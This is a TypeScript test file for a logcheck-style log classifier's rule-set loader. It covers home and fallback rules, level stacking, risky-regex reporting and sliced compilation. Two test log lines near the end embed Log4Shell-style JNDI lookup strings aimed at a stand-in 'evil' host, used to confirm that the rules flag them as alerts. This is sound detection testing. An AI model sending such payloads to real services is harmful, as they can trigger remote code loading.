// loadRuleSet: the one way to load a rule set (home, home missing -> the
// fallback/embedded tree, tree given, level stacking, problems and risky rules
// as text, kinds straight from the classifier), and its compiling in slices.

import { expect, test } from "bun:test";
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { embeddedRules } from "../../src/embedded.ts";
import type { RuleTree } from "../../src/rules/home.ts";
import { loadRuleSet } from "../../src/rules/load.ts";
import { getLogcheckDb } from "../../bench/support/logcheck-db.ts";
import { classifierOf, titles, makeHomeIn } from "./helpers.ts";

const tmp = mkdtempSync(join(tmpdir(), "load-test-"));
process.on("exit", () => rmSync(tmp, { recursive: true, force: true }));

const makeHome = (name: string, tree: RuleTree) => makeHomeIn(tmp, name, tree);

const TREE: RuleTree = {
  "cracking.d/attacks": "ATTACK\n",
  "violations.d/auth": "Failed password\n(broken\n",
  "ignore.d.paranoid/p": "^paranoid noise$\n",
  "ignore.d.server/s": "^server noise$\n",
  "ignore.d.workstation/w": "^workstation noise$\n",
};
const FALLBACK: RuleTree = { "violations.d/fallback": "Failed\n" };

test("a home that exists is read, with problems as PREFIX FILE:LINE and kinds straight from the classifier", async () => {
  const home = makeHome("present", TREE);
  const r = await loadRuleSet({ home: home + "//" }, "server", { fallback: FALLBACK });
  expect(r.from).toBe("home");
  expect(r.homeMissing).toBe(false);
  expect(r.homeError).toBeNull();
  expect(r.prefix).toBe(home + "/");
  expect(r.problems).toEqual([`${home}/violations.d/auth:2: Unmatched ( or \\(`]);
  expect(r.classifier.classify("sshd: Failed password for x")).toEqual([{ kind: "violation", section: "Security Events for auth" }]);
  expect(r.classifier.classify("ATTACK now")).toEqual([{ kind: "alert", section: "Security Alerts for attacks" }]);
  expect(r.classifier.classify("other")).toEqual([{ kind: "system", section: "System Events" }]);
  expect(r.classifier.explain("ATTACK now").why[0]).toBe(`Security Alerts for attacks: alerted by ${home}/cracking.d/attacks:1`);
});

test("a missing home falls back to the fallback tree and says so", async () => {
  const r = await loadRuleSet({ home: join(tmp, "no-such-home") }, "server", { fallback: FALLBACK });
  expect(r.from).toBe("fallback");
  expect(r.homeMissing).toBe(true);
  expect(r.homeError).toBeNull();
  expect(r.prefix).toBe("embedded:");
  expect(r.classifier.classify("Failed login")).toEqual([{ kind: "violation", section: "Security Events for fallback" }]);
});

test("without a fallback given, a missing home falls back to the embedded default rules", async () => {
  const r = await loadRuleSet({ home: join(tmp, "no-such-home") }, "server");
  expect(r.from).toBe("fallback");
  const embedded = classifierOf(embeddedRules(), "server");
  expect(r.classifier.sectionTitles()).toEqual(embedded.sectionTitles());
  expect(r.classifier.rules.length).toBe(embedded.rules.length);
  expect(r.classifier.rules.length).toBeGreaterThan(10);
  expect(r.problems).toEqual([]);
});

test("a home that is a file, not a directory, counts as missing", async () => {
  const f = join(tmp, "a-file");
  writeFileSync(f, "x");
  const r = await loadRuleSet({ home: f }, "server", { fallback: FALLBACK });
  expect(r.homeMissing).toBe(true);
  expect(r.from).toBe("fallback");
});

test("an unreadable rule file is a problem without a line number; the rest loads", async () => {
  if (process.getuid?.() === 0) return; // root reads everything
  const home = makeHome("unreadable", TREE);
  chmodSync(join(home, "cracking.d/attacks"), 0);
  const r = await loadRuleSet({ home }, "server");
  expect(r.from).toBe("home");
  expect(r.problems[0]).toMatch(new RegExp(`^${home}/cracking\\.d/attacks: cannot read: `));
  expect(titles(r.classifier.classify("ATTACK now"))).toEqual(["System Events"]);
});

test("a tree given is used as is, with the embedded: prefix", async () => {
  const r = await loadRuleSet({ tree: TREE }, "server", { fallback: FALLBACK });
  expect(r.from).toBe("tree");
  expect(r.homeMissing).toBe(false);
  expect(r.problems).toEqual(["embedded:violations.d/auth:2: Unmatched ( or \\("]);
  expect(titles(r.classifier.classify("Failed password"))).toEqual(["Security Events for auth"]);
});

test("levels stack: workstation = workstation + server + paranoid, server = server + paranoid", async () => {
  const ignored = async (level: "paranoid" | "server" | "workstation", line: string) =>
    (await loadRuleSet({ tree: TREE }, level)).classifier.classify(line).length === 0;
  expect([await ignored("paranoid", "paranoid noise"), await ignored("paranoid", "server noise"), await ignored("paranoid", "workstation noise")]).toEqual([true, false, false]);
  expect([await ignored("server", "paranoid noise"), await ignored("server", "server noise"), await ignored("server", "workstation noise")]).toEqual([true, true, false]);
  expect([await ignored("workstation", "paranoid noise"), await ignored("workstation", "server noise"), await ignored("workstation", "workstation noise")]).toEqual([true, true, true]);
});

test("cracking.ignore.d is read only with crackingIgnore", async () => {
  const tree = { ...TREE, "cracking.ignore.d/attacks": "ATTACK test\n" };
  expect(titles((await loadRuleSet({ tree }, "server")).classifier.classify("ATTACK test"))).toEqual(["Security Alerts for attacks"]);
  expect(titles((await loadRuleSet({ tree }, "server", { crackingIgnore: true })).classifier.classify("ATTACK test"))).toEqual([]);
});

test("risky rules are listed as PREFIX FILE:LINE: kind: note", async () => {
  const r = await loadRuleSet({ tree: { "violations.d/amavis": "Hits: (-?[.[:digit:]]*)+, size:\n" } }, "server");
  expect(r.risky).toHaveLength(1);
  expect(r.risky[0]).toMatch(/^embedded:violations\.d\/amavis:1: linear: risky for backtracking/);
  // the daemon logs this one line per rule set instead of one line per risky rule
  expect(r.summary).toMatch(/^1 rules, 1 on the linear-time matcher, 0 with back-references; loaded in \d+\.\d\d s \(CPU \d+\.\d\d s\), RSS \d+ MiB$/);
});

test("the full workstation level compiles in slices: the event loop keeps running", async () => {
  const db = getLogcheckDb();
  let ticks = 0;
  let worst = 0;
  let last = performance.now();
  const iv = setInterval(() => {
    const now = performance.now();
    worst = Math.max(worst, now - last);
    last = now;
    ticks++;
  }, 2);
  const { classifier, from } = await loadRuleSet({ home: db.rulesHome }, "workstation", { fallback: {} });
  clearInterval(iv);
  expect(from).toBe("home");
  expect(classifier.rules.length).toBeGreaterThan(1800);
  expect(ticks).toBeGreaterThan(20); // timers ran while rules were compiled
  expect(worst).toBeLessThan(500); // generous: GC pauses on a loaded 2-core machine
  const amavis = `Nov 25 10:00:00 host amavis[123]: (12345-01) Passed CLEAN, [192.0.2.1] <a@b.c> -> <d@e.f>, mail_id: abc, Hits: ${"1".repeat(2000)}, size: zz`;
  expect(titles(classifier.classify(amavis))).toEqual(["System Events"]);
  const fallback = await loadRuleSet({ home: join(tmp, "missing-home") }, "server", { fallback: { "violations.d/x": "Failed\n" } });
  expect(fallback.from).toBe("fallback");
  expect(titles(fallback.classifier.classify("Failed login"))).toEqual(["Security Events for x"]);
}, 60000);

test("a rules home without cracking.d/violations.d rules (Debian's near-empty /etc/logcheck) gets the embedded rules layered under it", async () => {
  // what a package drops into an otherwise empty /etc/logcheck
  const home = makeHome("near-empty", { "ignore.d.server/gpg-agent": "^\\w{3} [ :0-9]{11} [._[:alnum:]-]+ gpg-agent\\[[0-9]+\\]: .*$\n" });
  const r = await loadRuleSet({ home }, "server");
  expect(r.layered).toBe(true);
  expect(r.from).toBe("home");
  const line = "Nov 30 10:00:00 host sshd[1]: Invalid user ${jndi:ldap://evil/x} from 192.0.2.1";
  expect(r.classifier.classify(line).map((v) => v.kind)).toContain("alert");
  // the home's own rule still decides its lines
  expect(r.classifier.classify("Nov 30 10:00:00 host gpg-agent[5]: anything")).toEqual([]);
  // a home with alert rules of its own is used as it is
  const full = makeHome("own-alerts", { "cracking.d/local": "EVIL\n", "ignore.d.server/x": "^nothing$\n" });
  const own = await loadRuleSet({ home: full }, "server");
  expect(own.layered).toBe(false);
  expect(own.classifier.classify(line).map((v) => v.kind)).not.toContain("alert");
});

test("logrules = LEVEL:builtin chooses the embedded rules, with no notice", async () => {
  const r = await loadRuleSet({ home: "builtin" }, "server");
  expect(r.homeMissing).toBe(false);
  expect(r.layered).toBe(false);
  expect(r.from).toBe("tree");
  expect(r.classifier.classify("Nov 30 10:00:00 host web: GET /?x=${jndi:ldap://evil/a}").map((v) => v.kind)).toContain("alert");
});
